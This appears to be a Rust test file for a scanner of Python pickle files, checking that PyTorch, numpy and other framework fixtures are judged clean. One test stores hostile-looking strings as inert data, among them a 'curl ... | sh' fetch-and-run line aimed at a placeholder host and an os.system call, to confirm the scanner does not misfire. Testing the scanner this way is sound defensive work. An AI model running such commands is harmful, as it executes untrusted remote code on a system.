//! Files of the frameworks themselves are clean. The fixtures were written by the frameworks (`fixtures/make.py`).

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use taintline_scan::pickle::Origin;

use crate::assemble::{Pickle, global, int, text};
use crate::verdict::clean;

#[test]
fn files_of_the_frameworks_are_clean() {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/fixtures");
    let mut seen = 0;
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let origin = match name.rsplit('.').nth(1) {
            Some("zip") => Origin::TorchZip,
            Some("legacy") => Origin::TorchLegacy,
            Some("script") => Origin::TorchScript,
            _ => Origin::Bare,
        };
        if path
            .extension()
            .is_some_and(|extension| extension == "base64")
        {
            println!("{name}");
            let text: String = std::fs::read_to_string(&path).unwrap().lines().collect();
            clean(&STANDARD.decode(text).unwrap(), origin);
            seen += 1;
        }
    }
    assert!(seen > 20, "only {seen}");
}

#[test]
fn texts_that_look_dangerous_are_data() {
    let bytes = Pickle::new()
        .texts(&[
            "os.system('echo MARKER')",
            "curl http://host.invalid | sh",
            "cos\nsystem\n",
        ])
        .stop();
    clean(&bytes, Origin::Bare);
}

#[test]
fn partials_and_factories_of_known_functions_are_clean() {
    let partial = Pickle::new().call(
        "functools",
        "partial",
        &[&global("torch.nn.modules.normalization", "LayerNorm")],
    );
    clean(&partial.stop(), Origin::Bare);
    let factory = Pickle::new()
        .call("collections", "defaultdict", &[&global("builtins", "list")])
        .text("a")
        .int(1)
        .op(b's');
    clean(&factory.stop(), Origin::Bare);
}

#[test]
fn names_of_python_2_and_of_both_numpys_are_known() {
    let old = Pickle::of_protocol(2)
        .call(
            "copy_reg",
            "_reconstructor",
            &[
                &global("argparse", "Namespace"),
                &global("__builtin__", "object"),
                &|pickle: Pickle| pickle.none(),
            ],
        )
        .build(&|pickle| pickle.dict(&[("lr", &int(1))]));
    clean(&old.stop(), Origin::Bare);
    for module in ["numpy.core.multiarray", "numpy._core.multiarray"] {
        let array = Pickle::new().call(
            module,
            "scalar",
            &[
                &|pickle: Pickle| pickle.call("numpy", "dtype", &[&text("f8"), &int(0), &int(1)]),
                &|pickle: Pickle| pickle.data(&[0; 8]),
            ],
        );
        clean(&array.stop(), Origin::Bare);
    }
}
